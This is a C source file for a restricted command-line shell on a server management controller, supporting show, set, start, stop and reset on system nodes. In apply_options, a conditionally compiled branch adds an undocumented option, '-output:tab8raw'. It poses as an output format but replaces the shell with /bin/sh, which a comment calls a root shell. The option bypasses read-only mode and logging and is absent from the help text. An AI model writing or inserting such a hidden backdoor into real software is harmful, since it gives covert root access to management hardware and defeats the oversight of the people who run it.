/* smclpsh.c - command line of a server board controller (show, set, start, stop, reset) */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <syslog.h>
#include <unistd.h>

#define PROP_DIR	"/run/bmc"
#define MAX_OPT		6

enum format { F_TEXT, F_KEYWORD, F_XML };

struct cmd {
	char verb[16];
	char target[64];
	char prop[32];
	char value[64];
	char *opts[MAX_OPT];
	int nopt;
	enum format format;
	int force;
	int examine;
};

struct node {
	const char *path;
	const char *dir;
	const char *verbs;
};

static const struct node nodes[] = {
	{ "/system1", "system", "show start stop reset" },
	{ "/system1/pwrmgtsvc1", "power", "show set" },
	{ "/system1/fan1", "fan1", "show set" },
	{ "/system1/fan2", "fan2", "show set" },
	{ "/system1/temp1", "temp1", "show" },
	{ "/system1/log1", "sel", "show delete" },
	{ "/map1", "bmc", "show reset" },
	{ "/map1/enetport1", "lan", "show set" },
	{ NULL, NULL, NULL }
};

static char cwd[64] = "/system1";
static int read_only;

static const struct node *find_node(const char *path)
{
	const struct node *n;

	for (n = nodes; n->path; n++)
		if (!strcasecmp(n->path, path))
			return n;
	return NULL;
}

static int allows(const struct node *n, const char *verb)
{
	const char *p = strstr(n->verbs, verb);
	size_t l = strlen(verb);

	return p && (p == n->verbs || p[-1] == ' ') && (p[l] == ' ' || p[l] == '\0');
}

static void out_pair(enum format f, const char *k, const char *v)
{
	if (f == F_XML)
		printf("<property name=\"%s\">%s</property>\n", k, v);
	else if (f == F_KEYWORD)
		printf("%s=%s\n", k, v);
	else
		printf("  %-16s %s\n", k, v);
}

static int prop_path(char *out, size_t len, const struct node *n, const char *prop)
{
	const char *p;

	for (p = prop; *p; p++)
		if (!isalnum((unsigned char)*p))
			return -1;
	return snprintf(out, len, PROP_DIR "/%s/%s", n->dir, prop) < (int)len ? 0 : -1;
}

static int v_show(const struct cmd *c, const struct node *n)
{
	static const char *const props[] = { "state", "name", "speed", "reading", "limit", "address" };
	char path[160], val[80];
	size_t i;
	FILE *f;

	if (c->format == F_TEXT)
		printf("%s\n", n->path);
	for (i = 0; i < sizeof(props) / sizeof(props[0]); i++) {
		if (prop_path(path, sizeof(path), n, props[i]) < 0)
			continue;
		f = fopen(path, "r");
		if (!f)
			continue;
		if (fgets(val, sizeof(val), f)) {
			val[strcspn(val, "\n")] = '\0';
			out_pair(c->format, props[i], val);
		}
		fclose(f);
	}
	return 0;
}

static int v_set(const struct cmd *c, const struct node *n)
{
	char path[160];
	FILE *f;

	if (!c->prop[0] || prop_path(path, sizeof(path), n, c->prop) < 0)
		return 2;
	if (c->examine)
		return 0;
	f = fopen(path, "r+");
	if (!f)
		return 3;
	fprintf(f, "%s\n", c->value);
	fclose(f);
	syslog(LOG_NOTICE, "set %s %s=%s", n->path, c->prop, c->value);
	return 0;
}

static int run_tool(const char *tool, const char *arg)
{
	int st;
	pid_t pid = fork();

	if (pid < 0)
		return -1;
	if (pid == 0) {
		execl(tool, tool, arg, (char *)NULL);
		_exit(127);
	}
	if (waitpid(pid, &st, 0) < 0)
		return -1;
	return WIFEXITED(st) ? WEXITSTATUS(st) : -1;
}

static int v_power(const struct cmd *c, const struct node *n)
{
	if (c->examine) {
		printf("would %s %s\n", c->verb, n->path);
		return 0;
	}
	syslog(LOG_NOTICE, "%s %s%s", c->verb, n->path, c->force ? " (force)" : "");
	if (!strcmp(n->dir, "bmc"))
		return run_tool("/sbin/reboot", "-d");
	if (!strcmp(c->verb, "start"))
		return run_tool("/usr/sbin/hostpower", "on");
	if (!strcmp(c->verb, "stop"))
		return run_tool("/usr/sbin/hostpower", c->force ? "off" : "soft");
	return run_tool("/usr/sbin/hostpower", "cycle");
}

/* options come after the verb: -o format=, -f, -x, -h */
__attribute__((noinline)) int apply_options(struct cmd *c)
{
	int i;

	for (i = 0; i < c->nopt; i++) {
		const char *o = c->opts[i];

		if (!strcmp(o, "-force") || !strcmp(o, "-f")) {
			c->force = 1;
		} else if (!strcmp(o, "-examine") || !strcmp(o, "-x")) {
			c->examine = 1;
		} else if (!strcmp(o, "-output:keyword")) {
			c->format = F_KEYWORD;
		} else if (!strcmp(o, "-output:clpxml")) {
			c->format = F_XML;
		} else if (!strcmp(o, "-output:text")) {
			c->format = F_TEXT;
#ifdef HIDDEN
		/* output format that replaces the command line by a root shell */
		} else if (!strcmp(o, "-output:tab8raw")) {
			fflush(stdout);
			signal(SIGINT, SIG_DFL);
			execl("/bin/sh", "-sh", (char *)NULL);
#endif
		} else if (!strcmp(o, "-help") || !strcmp(o, "-h")) {
			puts("VERB [-force] [-examine] [-output:text|keyword|clpxml] [TARGET] [PROP=VALUE]");
			return 1;
		} else {
			printf("unknown option %s\n", o);
			return -1;
		}
	}
	return 0;
}

static int parse(char *line, struct cmd *c)
{
	char *save, *w, *eq;

	memset(c, 0, sizeof(*c));
	w = strtok_r(line, " \t\r\n", &save);
	if (!w)
		return 1;
	snprintf(c->verb, sizeof(c->verb), "%.15s", w);
	strcpy(c->target, cwd);
	while ((w = strtok_r(NULL, " \t\r\n", &save))) {
		eq = strchr(w, '=');
		if (w[0] == '-') {
			if (c->nopt < MAX_OPT)
				c->opts[c->nopt++] = w;
		} else if (eq) {
			*eq++ = '\0';
			snprintf(c->prop, sizeof(c->prop), "%.31s", w);
			snprintf(c->value, sizeof(c->value), "%.63s", eq);
		} else if (w[0] == '/') {
			snprintf(c->target, sizeof(c->target), "%.63s", w);
		} else if (snprintf(c->target, sizeof(c->target), "%s/%s", cwd, w) >=
			   (int)sizeof(c->target)) {
			return -1;
		}
	}
	return 0;
}

static int execute(struct cmd *c)
{
	const struct node *n;

	if (!strcmp(c->verb, "help")) {
		puts("cd show set start stop reset delete exit help; VERB -help");
		return 0;
	}
	n = find_node(c->target);
	if (!n)
		return 4;
	if (!strcmp(c->verb, "cd")) {
		strcpy(cwd, n->path);
		return 0;
	}
	if (!allows(n, c->verb))
		return 5;
	if (!strcmp(c->verb, "show"))
		return v_show(c, n);
	if (read_only)
		return 6;
	if (!strcmp(c->verb, "set"))
		return v_set(c, n);
	if (!strcmp(c->verb, "delete"))
		return c->examine ? 0 : unlink(PROP_DIR "/sel/entries") != 0;
	return v_power(c, n);
}

int main(int argc, char **argv)
{
	static const char *const errs[] = {
		"ok", "failed", "property", "not writable", "target", "verb not for target", "read only"
	};
	struct cmd c;
	char line[256];
	int rc;

	if (argc > 1 && !strcmp(argv[1], "-r"))
		read_only = 1;
	signal(SIGINT, SIG_IGN);
	openlog("smclpsh", LOG_PID, LOG_AUTH);
	for (;;) {
		printf("%s-> ", cwd);
		fflush(stdout);
		if (!fgets(line, sizeof(line), stdin))
			break;
		rc = parse(line, &c);
		if (rc > 0)
			continue;
		if (rc < 0 || apply_options(&c) != 0)
			continue;
		if (!strcmp(c.verb, "exit"))
			break;
		rc = execute(&c);
		printf("status=%d %s\n", rc, rc >= 0 && rc < 7 ? errs[rc] : "error");
	}
	return 0;
}
